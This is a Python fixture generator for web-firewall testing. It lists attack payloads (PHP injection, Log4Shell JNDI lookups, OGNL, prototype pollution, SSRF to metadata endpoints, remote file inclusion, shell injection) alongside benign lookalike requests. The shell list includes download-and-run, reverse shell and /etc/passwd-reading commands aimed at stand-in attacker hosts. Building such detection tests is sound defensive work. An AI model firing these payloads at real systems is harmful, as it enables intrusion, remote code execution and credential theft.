"""Hand-written examples of the attack families the development corpus lacks (PHP injection, Java,
Node.js / prototype pollution, SSRF, remote file inclusion, Ruby / Perl) plus extra shell-injection shapes, and
realistic benign requests that carry the same words (code in prose, URLs in JSON fields, OAuth tokens).

Written for this repository from general knowledge of each family (no payload list or ruleset test was
read): each entry is a shape an attacker uses, placed where our routes take input. Same record schema as
the shared corpus (tests/data/waf-corpus/README.md); deterministic.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

PHP = [
    "<?php system($_GET['c']); ?>",
    "<?= `ls -la` ?>",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://input",
    "data://text/plain;base64,SGVsbG8gd29ybGQ=",
    "expect://whoami",
    "phar://uploads/avatar.jpg/inner.php",
    "zip://uploads/archive.zip%23payload.php",
    "file_get_contents('/etc/hostname')",
    "eval(base64_decode($_POST['z']));",
    "assert($_REQUEST['x'])",
    "call_user_func('passthru', 'id')",
    "array_map('system', array('uname -a'))",
    "${@phpinfo()}",
    "$f='sys'.'tem';$f('id');",
    "highlight_file(__FILE__);",
    "O:8:\"UserPref\":1:{s:4:\"path\";s:10:\"/etc/hosts\";}",
    "a:1:{i:0;O:6:\"Logger\":1:{s:3:\"log\";s:9:\"shell.php\";}}",
    "unserialize($_COOKIE['prefs'])",
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "ini_set('open_basedir', '/')",
    "proc_open('id', array(), $pipes);",
    "fwrite(fopen('x.php','w'), '<?php echo 1;');",
    "include($_GET['page']);",
    "gzinflate(base64_decode('c0zKBAA='))",
    "<script language=\"php\">echo shell_exec('id');</script>",
    "$_SERVER['DOCUMENT_ROOT']",
    "extract($_REQUEST);",
    "create_function('', 'return 1;')",
]

JAVA = [
    "${jndi:ldap://203.0.113.9:1389/Exploit}",
    "${jndi:rmi://attacker.example/obj}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/x}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
    "T(java.lang.Runtime).getRuntime().exec('whoami')",
    "#{T(java.lang.System).getenv()}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "aced0005737200116a6176612e7574696c2e486173684d6170",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\","
    "\"autoCommit\":true}",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "Class.forName(\"javax.script.ScriptEngineManager\").newInstance()",
    "getClass().getClassLoader().loadClass('java.lang.Runtime')",
    "javax.naming.InitialContext().lookup('ldap://attacker.example/a')",
]

NODE = [
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process').execSync('cat /etc/hostname')",
    "global.process.mainModule.constructor._load('child_process')",
    "this.constructor.constructor('return process')().exit()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "new Function('return process.env')()",
    "require('fs').readFileSync('/etc/hostname').toString()",
    "process.binding('spawn_sync').spawn({file:'id'})",
    "Object.prototype.polluted = true",
    "constructor.prototype.isAdmin",
    "__proto__.isAdmin",
    "res.end(require('os').userInfo().username)",
    "import('child_process').then(m => m.execSync('id'))",
]

# prototype pollution through parameter names and JSON keys
POLLUTION_QUERIES = [
    "__proto__[isAdmin]=true", "__proto__.role=admin", "constructor[prototype][admin]=1",
    "constructor.prototype.admin=1", "a[__proto__][b]=c",
]
POLLUTION_JSON = [
    {"__proto__": {"isAdmin": True}}, {"constructor": {"prototype": {"role": "admin"}}},
    {"user": {"__proto__": {"polluted": 1}}}, {"name": "x", "__proto__": {"toString": "boom"}},
]

SSRF = [
    "http://127.0.0.1:8080/admin",
    "http://localhost:6379/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/",
    "http://[::1]:22/",
    "http://0.0.0.0:5432/",
    "http://2130706433/",
    "http://0x7f000001/server-status",
    "http://0177.0.0.1/",
    "http://127.1/",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://localhost:11211/stats",
    "file:///etc/hostname",
    "http://10.0.0.12/internal/health",
    "http://192.168.1.1/cgi-bin/config",
    "http://172.16.3.4:9200/_cat/indices",
    "http://trusted.example@169.254.169.254/",
    "http://[::ffff:127.0.0.1]/",
    "http://100.100.100.200/latest/meta-data/",
    "ldap://127.0.0.1:389/dc=example",
    "tftp://10.1.2.3/boot.cfg",
    "jar:http://127.0.0.1/x.jar!/",
    "netdoc:///etc/hostname",
]

RFI = [
    "http://attacker.example/shell.txt?",
    "https://attacker.example/backdoor.php",
    "ftp://attacker.example/pub/payload.txt",
    "http://203.0.113.7/x.txt?",
    "http://attacker.example/c.txt%00",
    "\\\\attacker.example\\share\\payload.php",
    "https://raw.attacker.example/kit/cmd.jsp?",
    "http://attacker.example/inc.php?cmd=id",
    "//attacker.example/shell.asp",
    "https://attacker.example/payload.txt#",
]

RCE = [
    "$(curl -s http://attacker.example/x.sh|sh)",
    "`id`",
    ";cat${IFS}/etc/passwd",
    "|| ping -c 3 203.0.113.5",
    "&& whoami",
    "; /bin/ls -la /",
    "c''a''t /etc/hostname",
    "/???/c?t /???/h?st?",
    "{cat,/etc/hostname}",
    ";nc -e /bin/sh 203.0.113.5 4444",
    "| powershell -nop -c \"iex(iwr http://attacker.example/a)\"",
    "& type C:\\Windows\\win.ini",
    "; wget -qO- http://attacker.example/s | bash",
    "$(printf 'whoami')",
    "a;uname${IFS}-a;",
    "`sleep 5`",
    "; sleep 10 #",
    "| timeout /t 5",
    "x; python3 -c 'import os;os.system(\"id\")'",
    "$(echo aWQ= | base64 -d)",
    "test%0aid",
    ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
]

# other interpreters behind an API: Ruby, Perl, and a JavaScript sandbox handed an endless loop
INTERPRETERS = [
    "Kernel.system('cat /etc/hostname')",
    "IO.popen('uname -a').read",
    "User.class_eval('def x; `id`; end')",
    "[].send(:eval, 'exit')",
    "%x(ls /)",
    "qx{id}",
    "open(my $fh, '|-', 'id')",
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 6)",
    "while(true){}",
    "for(;;){ fetch('/') }",
]

FAMILIES = {"php": PHP, "java": JAVA, "nodejs": NODE, "ssrf": SSRF, "rfi": RFI, "rce": RCE,
            "interpreters": INTERPRETERS}
URL_PARAMS = {"ssrf": ["url", "callback", "webhook"], "rfi": ["page", "file", "template"]}


def _query(path: str, params: list[tuple[str, str]]) -> str:
    return path + "?" + urllib.parse.urlencode(params, quote_via=urllib.parse.quote, safe="")


def _get(uri: str) -> dict[str, Any]:
    return {"method": "GET", "uri": uri, "body": "", "headers": {"User-Agent": UA, "Accept": "application/json"}}


def _form(uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(fields),
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": "application/x-www-form-urlencoded"}}


def _json(uri: str, doc: Any) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
            "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/json"}}


def attacks() -> Iterator[dict[str, Any]]:
    """Each family payload in a query, a form and a JSON field (URL families: their own parameter names)."""
    n = 0
    for family, payloads in FAMILIES.items():
        names = URL_PARAMS.get(family, ["q", "q", "name"])
        for i, p in enumerate(payloads):
            q, f, j = names[i % len(names)], names[(i + 1) % len(names)], names[(i + 2) % len(names)]
            for placement, rec in (("query", _get(_query("/api/users", [(q, p), ("page", "1")]))),
                                   ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), (f, p)])),
                                   ("json", _json("/api/users", {"email": "a@example.org", j: p}))):
                n += 1
                yield {**rec, "id": f"fam-{family}-{n:04d}", "category": family, "placement": placement}
    for i, qs in enumerate(POLLUTION_QUERIES):
        yield {**_get("/api/users?" + qs), "id": f"fam-nodejs-pq{i}", "category": "nodejs", "placement": "query"}
    for i, doc in enumerate(POLLUTION_JSON):
        yield {**_json("/api/users", doc), "id": f"fam-nodejs-pj{i}", "category": "nodejs", "placement": "json"}


# Benign requests with the same vocabulary: what a family rule must leave alone.
BENIGN_TEXTS = [
    "the constructor of the prototype chain is explained in chapter 4",
    "we fixed the Log4j issue last year, jndi lookups are disabled",
    "use require('express') and call app.listen(3000)",
    "run `npm ci && npm test` before pushing",
    "PHP 8.3 is out, upgrade the php-fpm image and rerun composer install",
    "the import sorts the columns, then we select the file",
    "our metadata service lives behind the VPN",
    "Siobhán O'Neil said the http://localhost:3000 dev server is fine",
    "Price: $(5) per seat, or ${tier} for teams",
    "call me at 10.30 tomorrow; ping me if late",
    "see https://docs.example.com/api/v2/users?page=2 for the fields",
    "eval results are in the sheet; system tests pass",
    "Java's Runtime class and ProcessBuilder are covered in week 3",
    "copy the file to C:\\Users\\Public\\Documents",
    "the cat sat on the mat; the dog slept",
]
BENIGN_URLS = [
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    "https://example.com/avatars/42.png",
    "https://cdn.example.org/img/logo.svg?v=3",
    "https://app.example.com/callback?code=abc&state=xyz",
    "http://example.com/",
    "https://github.com/acme/api/blob/main/README.md",
    "https://www.example.co.uk/path/to/page.html#section-2",
]
OAUTH_TOKENS = ["SplxlOBeZQQYbYS6WxSbIA", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
                "4/0AX4XfWh-_Rk0aZ_Y9vQ3mN", "Zm9vYmFyYmF6cXV4", "af0ifjsldkj", "rO0-token_d7f3"]


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    for text in BENIGN_TEXTS:
        for rec in (_get(_query("/api/users", [("q", text)])),
                    _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)]),
                    _json("/api/users", {"name": "Ann O'Neil", "bio": text})):
            n += 1
            yield {**rec, "id": f"famben-text-{n:04d}", "category": "benign", "placement": "mixed"}
    for url in BENIGN_URLS:
        for rec in (_json("/api/users", {"name": "Ann", "avatar_url": url, "website": url}),
                    _get(_query("/api/users", [("q", "ann"), ("next", "/api/users?page=2")]))):
            n += 1
            yield {**rec, "id": f"famben-url-{n:04d}", "category": "benign", "placement": "json"}
    for tok in OAUTH_TOKENS:
        n += 1
        body = urllib.parse.urlencode([("grant_type", "authorization_code"), ("code", tok), ("state", tok[::-1]),
                                       ("redirect_uri", "https://app.example.com/cb"), ("code_verifier", tok * 2)])
        yield {"method": "POST", "uri": "/oauth/token", "body": body, "id": f"famben-oauth-{n:04d}",
               "category": "benign", "placement": "form",
               "headers": {"User-Agent": "python-httpx/0.27.0", "Content-Type": "application/x-www-form-urlencoded"}}


if __name__ == "__main__":
    print_records(attacks(), benign())
